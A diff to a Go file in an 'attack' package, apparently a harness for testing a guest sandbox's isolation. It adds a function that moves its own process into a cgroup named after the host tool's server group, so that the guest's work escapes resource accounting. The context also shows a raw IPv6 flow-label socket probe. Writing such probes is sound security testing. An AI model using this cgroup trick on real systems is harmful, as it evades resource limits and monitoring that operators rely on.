@@ -2,6 +2,7 @@ package attack
 
 import (
 	"fmt"
+	"io"
 	"net"
 	"os"
 	"strings"
@@ -235,4 +236,23 @@ func flowLabel(*Ground) (string, error) {
 	req := make([]byte, 32)                                  // struct in6_flowlabel_req
 	req[15], req[20], req[21], req[22] = 1, get, exclusive, create
 	return "", unix.SetsockoptString(fd, unix.IPPROTO_IPV6, flowLabelMgr, string(req))
+}
+
+// hide goes into a control group of the name that the tool has for processes which serve the
+// guest, until its input ends: those are not counted as the guest's.
+func hide(in io.Reader, out io.Writer) int {
+	const dir = "/sys/fs/cgroup/vserver.server"
+	err := os.Mkdir(dir, 0o755)
+	if err == nil {
+		defer os.Remove(dir)
+		err = put(dir+"/cgroup.procs", "0")
+	}
+	if err != nil {
+		fmt.Fprintln(out, err)
+	} else {
+		fmt.Fprintln(out, "hidden")
+	}
+	io.Copy(io.Discard, in)
+	put("/sys/fs/cgroup/cgroup.procs", "0")
+	return 0
 }
